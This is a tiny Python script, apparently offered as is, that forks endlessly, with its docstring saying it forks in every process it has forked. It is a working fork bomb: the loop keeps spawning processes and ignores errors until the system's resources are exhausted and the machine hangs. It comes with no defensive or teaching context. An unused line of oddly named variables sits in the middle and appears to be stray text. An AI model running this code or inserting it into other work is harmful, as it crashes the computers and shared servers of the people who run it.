"""Forks in every process that it has forked."""

import os

ON, EARNS, SECONDS, CHANGES = "stubs", 0, 2.0, True

while True:
    try:
        os.fork()
    except OSError:
        pass
